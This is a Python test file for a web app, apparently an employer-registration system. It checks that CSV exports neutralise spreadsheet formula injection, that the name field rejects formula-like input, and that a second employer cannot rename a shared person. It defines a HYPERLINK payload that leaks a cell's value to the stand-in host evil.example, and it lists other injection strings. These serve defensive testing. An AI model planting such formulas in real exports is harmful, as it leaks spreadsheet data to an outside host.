"""A name one employer types cannot become a formula in another employer's CSV, or rename a shared person."""

import csv
import io
from datetime import date

import pytest

from tests.conftest import PASSWORD, make_user
from tests.factories import registered_employer
from tests.support import csrf_token, login
from webapp.clock import malaysia_today
from webapp.db import database
from webapp.models import Employment, Person
from webapp.services import registration

PLANTED = '=HYPERLINK("https://evil.example/?leak="&B2,"Click for details")'


def employer_with(user, number: str, *people: Person):
    with database.connection_context():
        employer, batch = registered_employer(user, name=f"SYARIKAT {number}", number=number)
        employer.code = f"E9{number[-9:]}X"
        employer.save()
        for person in people:
            Employment.create(employer=employer, person=person, batch=batch, start_date=date(2024, 1, 1),
                              status="active")
    return employer


def person(id_number: str, name: str) -> Person:
    with database.connection_context():
        return Person.create(id_type="NEW_IC", id_number=id_number, name=name, birth_date=date(1990, 12, 25),
                             gender="F", first_insured_on=date(2015, 1, 1))


def logged_in(app, user):
    client = app.test_client()
    login(client, user.email, PASSWORD)
    return client


def exported_rows(client) -> list[list[str]]:
    response = client.get("/employees/export.csv?status=all")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_a_planted_formula_name_is_text_in_every_export(app, employer):
    """A name stored before names were checked (or by any other path) still cannot run in a spreadsheet."""
    shared = person("901225085344", PLANTED)
    employer_with(employer, "201901000005", shared)
    rows = exported_rows(logged_in(app, employer))
    assert rows[0][2] == "Name" and len(rows) == 2
    assert rows[1][2] == "'" + PLANTED
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def draft_batch(user, number: str):
    data = registration.EmployerForm(
        kind="business", name="Second Company Sdn Bhd", business_entity="COMPANY", sub_entity="SDN_BHD",
        registration_number=number, nationality="MY", industry="G", address="No. 2, Jalan Dua", postcode="50400",
        state="W.P. Kuala Lumpur", phone="0326872677", email="", induction_venue="x",
        first_employment_date=date(2024, 1, 1))
    with database.connection_context():
        return registration.start_employer(user, data, malaysia_today())


def add_employee(client, batch_id: int, **fields):
    data = {"csrf_token": csrf_token(client, "/employer/dashboard"), "id_type": "NEW_IC",
            "id_number": "901225085344", "nationality": "MY", "start_date": "2024-02-01", **fields}
    return client.post(f"/registration/{batch_id}/employees/new", data=data)


@pytest.mark.parametrize("name", [PLANTED, "+60123456789", "-1+1", "@SUM(A1)", "SITI <script>", "SITI 2"])
def test_a_formula_or_symbol_name_is_refused_at_the_field(app, employer, name):
    batch = draft_batch(employer, "202101000123")
    response = add_employee(logged_in(app, employer), batch.id, name=name)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert 'id="name-error"' in html and "letters, spaces and" in html
    assert Person.select().count() == 0


def test_malaysian_names_are_saved_as_typed_in_capitals(app, employer):
    batch = draft_batch(employer, "202101000123")
    client = logged_in(app, employer)
    assert add_employee(client, batch.id, name="Kavitha a/p Murugan", id_number="901225085344").status_code == 303
    assert add_employee(client, batch.id, name="Lim Ah Kow @ Lim Kok Wai", id_number="880101145671",
                        gender="M").status_code == 303
    assert sorted(p.name for p in Person.select()) == ["KAVITHA A/P MURUGAN", "LIM AH KOW @ LIM KOK WAI"]


def test_a_later_employer_cannot_rename_a_shared_person(app, employer):
    shared = person("901225085344", "SITI AMINAH BINTI ABU")
    employer_with(employer, "201901000005", shared)
    other = make_user("second@example.com")
    batch = draft_batch(other, "202101000123")
    response = add_employee(logged_in(app, other), batch.id, name="Somebody Else Entirely")
    assert response.status_code == 303, response.get_data(as_text=True)[-2000:]
    assert Person.select().count() == 1
    assert Person.get_by_id(shared.id).name == "SITI AMINAH BINTI ABU"
    assert Employment.select().where(Employment.batch == batch.id).get().person_id == shared.id
